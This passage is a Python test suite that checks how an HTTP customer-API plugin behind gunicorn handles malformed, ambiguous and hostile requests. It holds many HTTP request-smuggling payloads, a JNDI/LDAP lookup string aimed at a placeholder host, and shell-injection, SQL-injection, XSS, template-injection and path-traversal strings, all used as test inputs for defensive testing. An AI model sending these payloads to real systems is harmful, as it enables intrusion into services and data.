    *methods("/openapi-3.1.json",           "GET, HEAD, OPTIONS", "POST DELETE"),
    *methods("/ui/",                        "GET, HEAD, OPTIONS", "POST DELETE"),
    *methods("/ui/index.css",               "GET, HEAD, OPTIONS", "POST DELETE"),
    *methods("/customers",                  "GET, HEAD, OPTIONS", "PROPFIND QUERY CANARY CONNECT"),
    *methods("/customer/canary",            "GET, HEAD, OPTIONS", "DELETE"),
    *methods("/add_customer?canary",        "OPTIONS, POST", "GET"),
    row("HEAD of a query that does not fit", request("HEAD", "/customers?limit=0"),
        INVALID._replace(body=False)),
    row("HEAD of an id that is none", request("HEAD", "/customer/canary"),
        INVALID._replace(body=False)),

    # unknown or misplaced members in a body
    *(unknown(name) for name in (
        "success", "canary", "Email", "email ", "", "__proto__", "constructor",
        "prototype", "toString", "__class__", "$ref", "$where", "@type",
        "firstName", "lastName", "phone", "companyName", "city",
    )),
    unknown("__proto__", "/billingPerson"),
    unknown("constructor", "/billingPerson"),
    unknown("canary", "/billingPerson"),
    unknown("company", "/billingPerson"),
    *(write(f"update: member {name}", post(f"/update_customer/{ID}", f'{{"{name}": "canary"}}'),
            broken(" additionalProperties")) for name in (
        "updateCount", "firstName", "phone", "__proto__", "constructor",
    )),
    member('"contacts": [{"contact": "canary", "type": "OTHER", "canary": 7}]',
           "/contacts/0 additionalProperties"),
    member('"extrafields": [{"key": "canary"}, {"key": "canary", "canary": 1}]',
           "/extrafields/1 additionalProperties"),
    member('"shippingAddresses": [{"createdDat": "canary"}]',
           "/shippingAddresses/0 additionalProperties"),

    # values of the wrong type, out of range, over their limits
    write("add: nothing in it", post("/add_customer", "{}"), broken("/email required")),
    write("add: no e-mail", post("/add_customer", '{"lang": "canary"}'), broken("/email required")),
    *body("e-mail null",                    '{"email": null}', broken("/email type")),
    *body("e-mail a number",                '{"email": 172890169}', broken("/email type")),
    *body("e-mail an array",                '{"email": ["canary@example"]}', broken("/email type")),
    *body("e-mail an object",               '{"email": {"$ne": "canary"}}', broken("/email type")),
    *email("of 255 characters",             "canary" * 40 + "abc@example.com", "maxLength"),
    *email("with two @",                    "canary@example.com@example.com", "pattern"),
    *email("without @",                     "canary.example.com", "pattern"),
    *email("that ends in @",                "canary@", "pattern"),
    *email("that begins with @",            "@canary.example.com", "pattern"),
    write("add: e-mail empty", post("/add_customer", '{"email": "", "lang": "canary"}'),
          broken("/email pattern")),
    *email("with CR LF",                    "canary@example.com\r\nBcc: canary@x", "pattern"),
    *email("with a line feed at its end",   "canary@example.com\n", "pattern"),
    *email("with a blank",                  "canary @example.com", "pattern"),
    *email("with a name",                   "Canary <canary@example.com>", "pattern"),
    *email("with a tab",                    "canary\t@example.com", "pattern"),
    *email("with a DEL",                    "canary\x7f@example.com", "pattern"),
    *email("with a line separator",         "canary\u2028@example.com", "pattern"),
    member('"taxExempt": "canary"',         "/taxExempt type"),
    member('"taxExempt": 1',                "/taxExempt type"),
    member('"acceptMarketing": null',       "/acceptMarketing type"),
    member('"customerGroupId": -1',         "/customerGroupId minimum"),
    member('"customerGroupId": 1.5',        "/customerGroupId type"),
    member('"customerGroupId": 1.0',        "/customerGroupId type"),
    member('"customerGroupId": "1"',        "/customerGroupId type"),
    member('"customerGroupId": true',       "/customerGroupId type"),
    member('"b2b_b2c": "canary"',           "/b2b_b2c enum"),
    member('"billingPerson": "canary"',     "/billingPerson type"),
    member('"billingPerson": ["canary"]',   "/billingPerson type"),
    member('"billingPerson": {"countryCode": "canary"}', "/billingPerson/countryCode pattern"),
    member('"billingPerson": {"name": {"canary": 1}}', "/billingPerson/name type"),
    member('"contacts": {"0": "canary"}',   "/contacts type"),
    member('"contacts": [{"type": "OTHER"}]', "/contacts/0/contact required"),
    member('"contacts": [{"contact": "", "type": "OTHER"}]', "/contacts/0/contact minLength"),
    member('"contacts": [{"contact": "canary", "type": ""}]', "/contacts/0/type minLength"),
    member('"contacts": [{"contact": "canary", "type": 5}]', "/contacts/0/type type"),
    member('"extrafields": [{"value": "canary"}]', "/extrafields/0/key required"),
    member('"extrafields": [{"key": "canary", "type": "Text"}]', "/extrafields/0/type pattern"),
    member('"shippingAddresses": [{"id": "canary"}]', "/shippingAddresses/0/id type"),
    member('"shippingAddresses": [null]',   "/shippingAddresses/0 type"),
    member(f'"taxId": "{"canary" * 167}"',  "/taxId maxLength"),
    member(f'"password": "{"canary" * 167}"', "/password maxLength"),
    member(f'"lang": "{"ä" * 1_001}"',      "/lang maxLength"),
    member(f'"privateAdminNotes": "{"canary" * 16_667}"', "/privateAdminNotes maxLength"),
    member(f'"billingPerson": {{"street": "{"canary" * 167}"}}', "/billingPerson/street maxLength"),
    member(f'"contacts": [{{"contact": "{"canary" * 334}", "type": "OTHER"}}]',
           "/contacts/0/contact maxLength"),
    member(f'"extrafields": [{{"key": "{"canary" * 167}"}}]', "/extrafields/0/key maxLength"),

    # an invalid Idempotency-Key
    write("an empty Idempotency-Key", post("/add_customer", NEW, "Idempotency-Key:"),
          broken("/header/Idempotency-Key minLength")),
    write("an Idempotency-Key of 256 characters", post("/add_customer", NEW, "Idempotency-Key: "
          + "canary" * 42 + "abcd"), broken("/header/Idempotency-Key maxLength")),
    write("an Idempotency-Key with an umlaut", post("/add_customer", NEW,
          "Idempotency-Key: canary-ä"), broken("/header/Idempotency-Key pattern")),
    write("an Idempotency-Key with a tab", post("/add_customer", NEW,
          "Idempotency-Key: canary\tcanary"), broken("/header/Idempotency-Key pattern")),

    # no WebSockets
    *(row(f"a WebSocket, {name}", request(*first, "Upgrade: websocket", "Connection: Upgrade",
          "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: Y2FuYXJ5"), BAD_REQUEST)
      for name, *first in (
        ("list",                            "GET", "/customers?name=canary"),
        ("get",                             "GET", f"/customer/{ID}"),
        ("delete",                          "POST", f"/delete_customer/{ID}"),
        ("no path",                         "GET", "/canary"),
        ("nothing behind the mount",        "GET", ""),
    )),

    # a header or parameter that overrides the method is ignored
    *(row(f"GET with {name}", get("/add_customer", f"{name}: POST"),
          NOT_ALLOWED._replace(allow="OPTIONS, POST")) for name in (
        "X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override",
    )),
    row("POST with an override to GET", request("POST", "/customers",
        "X-HTTP-Method-Override: GET"), NOT_ALLOWED._replace(allow="GET, HEAD, OPTIONS")),
    write("a parameter _method", post(f"/update_customer/{ID}?_method=DELETE", "{}"),
          broken("/query additionalProperties")),
    write("a member _method", post(f"/update_customer/{ID}", '{"_method": "DELETE"}'),
          broken(" additionalProperties")),

    # bad requests in succession over one connection, and one inside another
    row("a request inside of a body", post("/canary", SMUGGLED), NOT_FOUND),
    write("a request inside of a body that is no JSON", post("/add_customer", SMUGGLED), NOT_JSON),
    row("a bad body, then a bad query", post("/add_customer", "canary") + get("/customers?limit=0"),
        NOT_JSON._replace(write=True), broken("/query/limit minimum")),
    row("no path with a body of JSON, then no path", post("/canary", NEW) + get("/canary", CLOSE),
        NOT_FOUND, NOT_FOUND),
    write("100-continue, then a bad body", post("/add_customer", "canary", "Expect: 100-continue"),
          CONTINUE, NOT_JSON),
    row("100-continue to no path", post("/canary", "canary", "Expect: 100-continue"),
        CONTINUE, NOT_FOUND),
    row("no path with chunks that are none", request("POST", "/canary", CHUNKED,
        body="canary\r\n"), NOT_FOUND, by_gunicorn(400)),
    write("gzip under chunks", stream(chunks(b"\x1f\x8bcanary"), CLOSE)
          .replace(CHUNKED, b"Transfer-Encoding: gzip, chunked"), NOT_JSON),
]
# fmt: on


# ---------------------------------------------------------------------------------------------
# Bytes that are not HTTP, or ambiguous HTTP. gunicorn responds and closes the connection.
# A row hides a second request in the first where that is possible, and nothing may execute it.


def first_line(name: str, text: Text, status: int = 400) -> Row:
    """Return a row with any first line, followed by a creation."""
    return row(name, lines(text, *CANARIES, body=SMUGGLED), by_gunicorn(status))


def header(name: str, *headers: Text, status: int = 400) -> Row:
    """Return a row for a read with any headers, followed by a creation."""
    return row(name, get(f"/customer/{ID}", *headers) + SMUGGLED, by_gunicorn(status))


def smuggling(name: str, *headers: Text, status: int = 400) -> Row:
    """Return a row whose headers disagree about the end of the body, where a creation follows."""
    hidden = b"0\r\n\r\n" + SMUGGLED
    sent = request("POST", "/add_customer", JSON, *headers, body=hidden)
    return row(name, sent, by_gunicorn(status))


# fmt: off
NO_HTTP: list[Row] = [
    first_line("HTTP/0.9",                  f"GET {PREFIX}/customers"),
    first_line("one word",                  "canary"),
    first_line("four words",                f"GET {PREFIX}/customers canary HTTP/1.1"),
    first_line("an answer",                 "HTTP/1.1 200 canary"),
    first_line("a lower-case method",       f"get {PREFIX}/customers HTTP/1.1"),
    first_line("a method with a colon",     f"CANARY: {PREFIX}/customers HTTP/1.1"),
    first_line("a method of two letters",   f"GO {PREFIX}/customers HTTP/1.1"),
    first_line("a method of 30 letters",    f"{'CANARY' * 5} {PREFIX}/customers HTTP/1.1"),
    first_line("no method",                 f" {PREFIX}/customers HTTP/1.1"),
    first_line("no path",                   "GET  HTTP/1.1"),
    first_line("HTTP/2.0",                  f"GET {PREFIX}/customers HTTP/2.0"),
    first_line("HTTP/1.10",                 f"GET {PREFIX}/customers HTTP/1.10"),
    first_line("HTTP/canary",               f"GET {PREFIX}/customers HTTP/canary"),
    first_line("http/1.1",                  f"GET {PREFIX}/customers http/1.1"),
    first_line("SIP",                       "OPTIONS sip:canary@example.com SIP/2.0"),
    first_line("RTSP",                      "DESCRIBE rtsp://canary.example/ RTSP/1.0"),
    first_line("bytes in the path",         b"GET /customers/canary\xff HTTP/1.1"),
    first_line("UTF-8 in the query",        f"GET {PREFIX}/customers?name=canaryé HTTP/1.1"),
    first_line("Arabic digits in the query", f"GET {PREFIX}/customers?limit=\u0661&x HTTP/1.1"),
    first_line("a NUL in the path",         f"GET {PREFIX}/customers\0 HTTP/1.1"),
    first_line("a tab in the line",         f"GET\t{PREFIX}/customers\tHTTP/1.1"),
    first_line("a carriage return in it",   f"GET {PREFIX}/customers?canary\rHTTP/1.1"),
    first_line("a line of 65,537 bytes",    f"GET {PREFIX}?".ljust(65_528, "x") + " HTTP/1.1", 414),
    first_line("a line of 100 kB",          f"GET {PREFIX}?{'canary' * 17_000} HTTP/1.1", 414),
    first_line("a PROXY line",              "PROXY TCP4 192.0.2.1 192.0.2.2 1 2"),
    row("a preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
        by_gunicorn(400)),
    row("a TLS ClientHello", b"\x16\x03\x01\x00\x8e\x01\x00\x00\x8a\x03\x03canary\r\n\x00\x2f",
        by_gunicorn(400)),
    row("SSH", b"SSH-2.0-canary\r\n", by_gunicorn(400)),
    row("Redis", b"*1\r\n$6\r\ncanary\r\n", by_gunicorn(400)),
    row("SMTP", b"EHLO canary.example\r\n", by_gunicorn(400)),
    row("garbage", bytes(range(128, 256)) + b"canary\r\n\r\n", by_gunicorn(400)),
    row("line feeds alone", get("/customers").replace(b"\r\n", b"\n"), by_gunicorn(400)),
    row("an empty line, then no HTTP", b"\r\ncanary\r\n\r\n", by_gunicorn(400)),
    row("two empty lines", b"\r\n\r\n" + SMUGGLED, by_gunicorn(400)),
    row("a good request, then garbage", get("/canary") + b"canary\r\n\r\n" + SMUGGLED,
        NOT_FOUND, by_gunicorn(400)),
    header("a header without a colon",      "canary"),
    header("a header without a name",       ": canary"),
    header("a blank in front of a colon",   "X-Canary : canary"),
    header("a blank in a name",             "X Canary: canary"),
    header("a byte in a name",              b"X-\xffCanary: canary"),
    header("a NUL in a name",               "X-Canary\0: canary"),
    header("a parenthesis in a name",       "X(Canary): canary"),
    header("a NUL in a value",              "X-Canary: canary\0canary"),
    header("a carriage return in a value",  "X-Canary: canary\rX-Canary: canary"),
    header("a line feed in a value",        "X-Canary: canary\nX-Canary: canary"),
    header("a control character in a value", "X-Canary: canary\x01"),
    header("a folded header",               "X-Canary: canary\r\n canary"),
    header("a folded header, with a tab",   "X-Canary: canary\r\n\tcanary"),
    header("a folded Transfer-Encoding",    "Transfer-Encoding:\r\n chunked"),
    header("Host twice",                    "Host: canary.example"),
    header("Host twice, and differently",   "Host: other.canary.example"),
    header("Content-Type twice",            JSON, "Content-Type: text/canary"),
    header("101 headers",                   *["X-Canary: canary"] * 101, status=431),
    header("10,000 headers",                *["X-Canary: canary"] * 10_000, status=431),
    header("a header of 9 kB",              "X-Canary: " + "canary" * 1_500, status=431),
    header("a header of a megabyte",        "X-Canary: " + "canary" * 170_000, status=431),
    header("a name of 9 kB",                "X-" + "Canary" * 1_500 + ": canary", status=431),
    header("another expectation",           "Expect: canary", status=417),
    header("200-ok for an expectation",     "Expect: 200-ok", status=417),
    smuggling("a length and chunks",        "Content-Length: 5", CHUNKED),
    smuggling("chunks and a length",        CHUNKED, "Content-Length: 5"),
    smuggling("a length of 0 and chunks",   "Content-Length: 0", CHUNKED),
    smuggling("a great length and chunks",  "Content-Length: 500", CHUNKED),
    smuggling("two lengths",                "Content-Length: 5", "Content-Length: 500"),
    smuggling("two equal lengths",          "Content-Length: 5", "Content-Length: 5"),
    smuggling("two lengths in a line",      "Content-Length: 5, 500"),
    smuggling("two equal lengths in a line", "Content-Length: 5, 5"),
    smuggling("a length below zero",        "Content-Length: -5"),
    smuggling("a length with a plus",       "Content-Length: +5"),
    smuggling("a length with a dot",        "Content-Length: 5.0"),
    smuggling("a length with an exponent",  "Content-Length: 5e0"),
    smuggling("a length with an underscore", "Content-Length: 0_5"),
    smuggling("a length in hexadecimal",    "Content-Length: 0x5"),
    smuggling("a length with a blank in it", "Content-Length: 5 5"),
    smuggling("a length with a comma",      "Content-Length: 5,"),
    smuggling("a length that is no number", "Content-Length: canary"),
    smuggling("an empty length",            "Content-Length:"),
    smuggling("a length in superscript",    b"Content-Length: \xb2"),
    smuggling("a blank in front of the length's colon", "Content-Length : 5"),
    smuggling("a length, folded",           "Content-Length:\r\n 5"),
    smuggling("chunked twice",              CHUNKED, CHUNKED),
    smuggling("chunked twice in a line",    "Transfer-Encoding: chunked, chunked"),
    smuggling("chunked, then identity",     "Transfer-Encoding: chunked, identity"),
    smuggling("chunked, then gzip",         "Transfer-Encoding: chunked, gzip"),
    smuggling("identity alone",             "Transfer-Encoding: identity"),
    smuggling("identity and a length",      "Transfer-Encoding: identity", "Content-Length: 5"),
    smuggling("gzip alone",                 "Transfer-Encoding: gzip"),
    smuggling("a blank in front of the colon", "Transfer-Encoding : chunked"),
    smuggling("a blank in front of the name", "X: x", " Transfer-Encoding: chunked"),
    smuggling("a line feed in front of it", "X: x\nTransfer-Encoding: chunked"),
    smuggling("a NUL behind it",            "Transfer-Encoding: chunked\0"),
    smuggling("a vertical tab behind it",   "Transfer-Encoding: chunked\v"),
    smuggling("a carriage return behind it", "Transfer-Encoding: chunked\r"),
    smuggling("xchunked",                   "Transfer-Encoding: xchunked", status=501),
    smuggling("chunked and canary",         CHUNKED, "Transfer-Encoding: canary", status=501),
    smuggling("canary and chunked",         "Transfer-Encoding: canary", CHUNKED, status=501),
    smuggling("chunked in quotes",          'Transfer-Encoding: "chunked"', status=501),
    smuggling("chunked with a parameter",   "Transfer-Encoding: chunked;canary=1", status=501),
    smuggling("chunked without its comma",  "Transfer-Encoding: gzip chunked", status=501),
    smuggling("an empty Transfer-Encoding", "Transfer-Encoding:", status=501),
    smuggling("a byte in front of it",      b"Transfer-Encoding: \xa0chunked", status=501),
    smuggling("chunked in HTTP/1.0",        CHUNKED)
    ._replace(sent=request("POST", "/add_customer", JSON, CHUNKED, body=b"0\r\n\r\n" + SMUGGLED)
              .replace(b"HTTP/1.1", b"HTTP/1.0", 1)),
]

# The app responds, and the bytes after the request do not count as a request.
HIDDEN: list[Row] = [
    write("Transfer_Encoding, which is none", request("POST", "/add_customer", JSON,
          "Transfer_Encoding: chunked", body=b"0\r\n\r\n" + SMUGGLED), NOT_JSON, by_gunicorn(400)),
    write("Content_Length, which is none", request("POST", "/add_customer", JSON,
          "Content_Length: 5", body=b"0\r\n\r\n" + SMUGGLED), NOT_JSON, by_gunicorn(400)),
    write("gzip under chunks, and the connection ends", request("POST", "/add_customer", JSON,
          "Transfer-Encoding: gzip, chunked", body=chunks("{}") + SMUGGLED),
          broken("/email required")),
    *(write(f"{name}, and the connection ends", stream(sent + SMUGGLED), NOT_READ)
      for name, sent in (
        ("a chunk with a bad size",         b"canary\r\n{}\r\n0\r\n\r\n"),
        ("a chunk without its end of line", b"2\r\n{}x0\r\n\r\n"),
        ("a chunk with a bad extension",    b"2;canary\n\r\n{}\r\n0\r\n\r\n"),
        ("a trailer with a length",         b"2\r\n{}\r\n0\r\nContent-Length: 99\r\n\r\n"),
        ("a trailer that is none",          b"2\r\n{}\r\n0\r\ncanary\r\n\r\n"),
      )),
    row("a bad chunk to a read, and the connection ends", request("GET", f"/customer/{ID}",
        CHUNKED, body=b"canary\r\n\r\n" + SMUGGLED), NOT_READ),
    row("CONNECT, and what it would tunnel", request("CONNECT", "/customers") + SMUGGLED,
        NOT_ALLOWED._replace(allow="GET, HEAD, OPTIONS")),
    write("Connection: close", post("/add_customer", "canary", CLOSE) + SMUGGLED, NOT_JSON),
]

# An empty or incomplete request gets no response, and the connection is closed.
# Events of Ecwid's webhook, which anybody can send. The type in the query has no effect.
SIGNED = event_of("customer.canary")
OLD = event_of(eventCreated=5)
SIGN = f"{SIGNATURE}: {signature_of(SIGNED)}"
BAD_SIGNATURE = Gets(
    401,
    "bad-signature",
    "The signature is not Ecwid's",
    "X-Ecwid-Webhook-Signature has to sign the event with this app's client_secret.",
)
LONG = "canary " * 10_000


def event(text: Text, *headers: Text) -> bytes:
    return post("/webhooks?eventtype=canary%ff", text, *headers)


EVENTS: list[Row] = [
    row("an event", event(json.dumps(SIGNED), SIGN), GOOD),
    row("the event again", event(json.dumps(SIGNED), SIGN), GOOD),
    row("no signature", event(json.dumps(SIGNED)), BAD_SIGNATURE),
    row("another signature", event(json.dumps(SIGNED), f"{SIGNATURE}: canary"), BAD_SIGNATURE),
    row("two signatures", event(json.dumps(SIGNED), SIGN, SIGN), BAD_SIGNATURE),
    row("a good and another one",
        event(json.dumps(SIGNED), SIGN, f"{SIGNATURE}: canary"), BAD_SIGNATURE),
    row("a signature beyond ASCII",
        event(json.dumps(SIGNED), wire(SIGN)[:-1] + b"\xff"), BAD_SIGNATURE),
    row("an event that is no JSON", event("canary", SIGN), NOT_JSON),
    row("an event in chunks that is no JSON", request("POST", "/webhooks", CHUNKED, SIGN,
        body=chunks("canary")), NOT_JSON),
    row("an event without a body", request("POST", "/webhooks", SIGN), NOT_JSON),
    row("a member of an event twice",
        event('{"eventId": "canary", "eventId": "canary"}', SIGN), TWICE),
    row("an event without an id",
        event('{"eventCreated": 5, "canary": 5}', SIGN), broken("/eventId type")),
    row("an event of long ago",
        event(json.dumps(OLD), f"{SIGNATURE}: {signature_of(OLD)}"),
        broken("/eventCreated minimum")),
    row("a large event", event(LONG, SIGN),
        TOO_LARGE._replace(detail="Send a body of at most 65536 bytes.")),
    row("a large event in chunks", request("POST", "/webhooks", CHUNKED, SIGN, CLOSE,
        body=chunks(LONG)), TOO_LARGE._replace(detail="Send a body of at most 65536 bytes.")),
    row("a GET of the events", get("/webhooks?canary"),
        NOT_ALLOWED._replace(allow="OPTIONS, POST")),
]

SILENT: list[Row] = [
    row("nothing",                          b""),
    row("an empty line",                    b"\r\n"),
    row("half of a line",                   b"GET /canary"),
    row("half of the headers",              get("/customers")[:-2]),
    row("a TLS ClientHello without a line", b"\x16\x03\x01\x00\x8e\x01\x00\x00\x8a\x03\x03canary"),
    row("garbage without a line",           b"canary\xff" * 100),
]


# ---------------------------------------------------------------------------------------------
# Requests that only look bad

LIST = "GET /customers"
CREATE = "POST /customers"


def created(name: str, sent: bytes, *before: Gets) -> Row:
    """Return a row for a creation that succeeds, with an e-mail of its own."""
    return row(name, sent, *before, GOOD, calls=(CREATE,))


def read(name: str, sent: bytes) -> Row:
    """Return a row for a read of the customer that succeeds."""
    return row(name, sent, GOOD, calls=(ONE,))


GOOD_REQUESTS: list[Row] = [
    # a chunked body has the same limit
    created("chunks", stream(chunks(creation("chunks.canary@example.com")))),
    created("chunks of a byte", stream(chunks(*creation("bytes.canary@example.com")))),
    created("chunks with extensions", stream(chunks(creation("extension.canary@example.com"))
            .replace(b"\r\n", b" ; canary=\"canary\"\r\n", 1))),
    created("chunks with a trailer", stream(chunks(creation("trailer.canary@example.com"))[:-2]
            + b"X-Canary: canary\r\n\r\n")),
    created("Chunked, in capitals", stream(chunks(creation("capitals.canary@example.com")))
            .replace(CHUNKED, b"transfer-encoding:\tCHUNKED")),
    created("chunks up to the limit", stream(chunks(
            creation("limit.canary@example.com").ljust(LIMIT)))),
    created("a body at the limit", post("/add_customer",
            creation("full.canary@example.com").ljust(LIMIT))),
    created("100-continue", post("/add_customer", creation("continue.canary@example.com"),
            "Expect: 100-Continue"), CONTINUE),
    created("a length with zeros in front", post("/add_customer",
            creation("zeros.canary@example.com")).replace(b"Length: ", b"Length: 000")),
    created("other spellings of JSON's type", post("/add_customer",
            creation("spelling.canary@example.com"))
            .replace(JSON, b'content-type: Application/JSON ; Charset="UTF-8"')),

    # a header or parameter that overrides the method is ignored
    created("POST with an override to DELETE", post("/add_customer",
            creation("override.canary@example.com"), "X-HTTP-Method-Override: DELETE")),
    created("POST with other overrides", post("/add_customer",
            creation("overrides.canary@example.com"), "X-HTTP-Method: DELETE",
            "X-Method-Override: GET")),
    read("GET with an override to DELETE", get(f"/customer/{ID}",
         "X-HTTP-Method-Override: DELETE")),
    row("an update with an override to DELETE", post(f"/update_customer/{ID}",
        '{"taxExempt": false}', "X-HTTP-Method-Override: DELETE"), GOOD,
        calls=(f"PUT /customers/{ID}",)),

    # HEAD is GET without a body, and OPTIONS is a 204 with `Allow`
    row("HEAD of the list", request("HEAD", "/customers"), NO_BODY, calls=(LIST,)),
    row("HEAD of one", request("HEAD", f"/customer/{ID}"), NO_BODY, calls=(ONE,)),
    row("HEAD of nobody", request("HEAD", "/customer/7"), NO_CUSTOMER._replace(body=False),
        calls=("GET /customers/7",)),
    *(row(f"OPTIONS {target}", request("OPTIONS", target, *headers),
          Gets(204, body=False, allow=allow)) for target, allow, *headers in (
        ("/customers",                      "GET, HEAD, OPTIONS"),
        (f"/customer/{ID}",                 "GET, HEAD, OPTIONS"),
        ("/customer/canary",                "GET, HEAD, OPTIONS"),
        ("/customers?canary=canary",        "GET, HEAD, OPTIONS", "Origin: http://canary.example"),
        ("/add_customer",                   "OPTIONS, POST", "Access-Control-Request-Method: POST"),
        (f"/update_customer/{ID}",          "OPTIONS, POST"),
        (f"/delete_customer/{ID}",          "OPTIONS, POST"),
        ("/openapi.json",                   "GET, HEAD, OPTIONS"),
        ("/openapi.yaml",                   "GET, HEAD, OPTIONS"),
        ("/openapi-3.1.json",               "GET, HEAD, OPTIONS"),
        ("/ui/",                            "GET, HEAD, OPTIONS"),
    )),

    # headers without an effect
    read("bytes in a value",                get(f"/customer/{ID}", b"X-Canary: canary\xff\xfe")),
    read("UTF-8 in a value",                get(f"/customer/{ID}", "X-Canary: canaryé 😀")),
    read("90 headers",                      get(f"/customer/{ID}", *["X-Canary: canary"] * 90)),
    read("a header of 8 kB",                get(f"/customer/{ID}", "X: " + "canary" * 1_300)),
    read("an empty header",                 get(f"/customer/{ID}", "X-Canary:")),
    read("an underscore in a name",         get(f"/customer/{ID}", "X_Canary: canary")),
    read("headers of proxies",              get(f"/customer/{ID}", "X-Forwarded-For: canary",
         "X-Forwarded-Host: canary", "X-Forwarded-Prefix: /canary", "Forwarded: for=canary",
         "X-Original-URL: /canary", "X-Rewrite-URL: /canary")),
    read("a range",                         get(f"/customer/{ID}", "Range: bytes=0-5")),
    read("conditions",                      get(f"/customer/{ID}", 'If-None-Match: "canary", *',
         "If-Modified-Since: canary")),
    read("an upgrade to h2c",               get(f"/customer/{ID}", "Upgrade: h2c",
         "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAAQAAP__")),
    read("Accept: nothing of ours",         get(f"/customer/{ID}", "Accept: text/canary")),
    read("no Host",                         lines(f"GET {PREFIX}/customer/{ID} HTTP/1.1")),
    read("an empty Host",                   lines(f"GET {PREFIX}/customer/{ID} HTTP/1.1", "Host:")),
    read("a Host that is none",             lines(f"GET {PREFIX}/customer/{ID} HTTP/1.1",
         "Host: canary/<canary>@:99999")),
    read("HTTP/1.0",                        lines(f"GET {PREFIX}/customer/{ID} HTTP/1.0")),
    read("an absolute URL",                 lines(
         f"GET http://canary.example{PREFIX}/customer/{ID} HTTP/1.1", *CANARIES)),
    read("an absolute URL of another host", lines(
         f"GET https://canary@other.example:99{PREFIX}/customer/{ID} HTTP/1.1", *CANARIES)),
    read("an empty line in front",          b"\r\n" + get(f"/customer/{ID}")),
    read("letters that need no encoding, encoded", get(f"/%63ustomer/%31{str(ID)[1:]}")),
    read("a fragment",                      get(f"/customer/{ID}#canary")),
    read("a body, to a read",               request("GET", f"/customer/{ID}", length("canary"),
         body="canary")),
    row("a query that ends in &", get("/customers?name=nobody&"), GOOD, calls=(LIST,)),
    row("a line of 8,190 bytes", get("/customers?name=nobody".ljust(8_190 - 13 - len(PREFIX), "&")),
        GOOD, calls=(LIST,)),

    # one request after the other
    row("pipelined", get(f"/customer/{ID}") + get("/customer/7") + get("/customers?limit=0"),
        GOOD, NO_CUSTOMER, broken("/query/limit minimum"), calls=(ONE, "GET /customers/7")),
    row("pipelined behind a bad body", post("/add_customer", "canary") + get(f"/customer/{ID}"),
        NOT_JSON._replace(write=True), GOOD, calls=(ONE,)),
    row("pipelined behind chunks", stream(chunks("canary")) + get(f"/customer/{ID}"),
        NOT_JSON._replace(write=True), GOOD, calls=(ONE,)),
    row("pipelined behind no path with a body", post("/canary", NEW) + get(f"/customer/{ID}"),
        NOT_FOUND, GOOD, calls=(ONE,)),
]
# fmt: on

# Each X-Request-ID, with True if the plugin keeps the id.
REQUEST_IDS: list[tuple[Text, bool]] = [
    (REQUEST_ID, True),
    (REQUEST_ID.upper(), True),
    ("", False),
    ("canary", False),
    (f"{REQUEST_ID}canary", False),
    (f"{REQUEST_ID}, {REQUEST_ID}", False),
    (f"{{{REQUEST_ID}}}", False),
    (f"urn:uuid:{REQUEST_ID}", False),
    (REQUEST_ID.replace("-", ""), False),
    (REQUEST_ID.replace("-4", "-1"), False),
    (REQUEST_ID.replace("-b", "-c"), False),
    ("00000000-0000-0000-0000-000000000000", False),
    ("\u0661" * 8 + REQUEST_ID[8:], False),
    (b"canary\xff", False),
    ("canary" * 1_000, False),
    ('canary","status":200,"x":"', False),
    ("canary${jndi:ldap://canary.example}", False),
]

# Texts that the plugin sends unchanged and that come back unchanged.
TEXTS: dict[str, str] = {
    "script": "<script>alert('canary')</script>",
    "an image with a script": '"><img src=x onerror=alert(`canary`)>',
    "SQL": "canary'; DROP TABLE customers; --",
    "more SQL": '" OR ""="canary',
    "a template": "{{ 7 * 7 }} canary {% import os %}",
    "another template": "${7*7} canary #{7*7} <%= 7*7 %>",
    "format codes": "%s %n %(canary)s {canary} {0.__class__}",
    "a lookup": "${jndi:ldap://canary.example/a}",
    "a shell": "$(touch canary) `touch canary` | canary & canary ;",
    "a formula": "=HYPERLINK(canary)",
    "a path": "../../etc/canary\\..\\canary",
    "encoded text": "canary%0d%0aX: canary%00%2e%2e &lt;canary&gt; \\u0000",
    "a CR LF": "canary\r\nX-Canary: canary",
    "control characters": "canary\x01\x1b[31m\x7f\x85",
    "JSON": '{"canary": [null, true]}',
    "null": "null canary",
    "blanks": "  canary\t ",
    "accents": "canary Zoë Ångström Łódź",
    "accents, decomposed": "canary Zoe\u0308",
    "Chinese": "canary 客户",
    "Arabic": "canary العميل ١٢٣",
    "Hebrew, and marks of direction": "canary \u202e\u05e9\u05dd\u202c\u200f",
    "emoji": "canary 👩‍👩‍👧‍👦 🏳️‍🌈 \U0010ffff",
    "line separators": "canary\u2028\u2029",
    "invisible": "canary\u200b\ufeff\u00ad",
    "no characters": "canary\ufffe\uffff",
    "255 characters": "canary" * 42 + "😀😀😀",
}

# E-mails that the plugin sends unchanged and that come back unchanged.
EMAILS: dict[str, str] = {
    "of 254 characters": "canary" * 40 + "ab@example.com",
    "with a tag": "canary+tag+tag@example.com",
    "with a script": "<script>canary</script>@example.com",
    "with SQL": "canary'or''='@example.com",
    "with a template": "{{canary}}@example.com",
    "with quotes": '"canary"@example.com',
    "with a percent": "canary%0d%0a@example.com",
    "with an address for a domain": "canary@[192.0.2.1]",
    "with a domain of one word": "canary@localhost",
    "of an IDN": "canary@bücher.example",
    "of an IDN, encoded": "canary@xn--bcher-kva.example",
    "of an IDN, and its name": "canaryø.δοκιμή@παράδειγμα.example",
    "with an emoji": "canary😀@example.com",
}
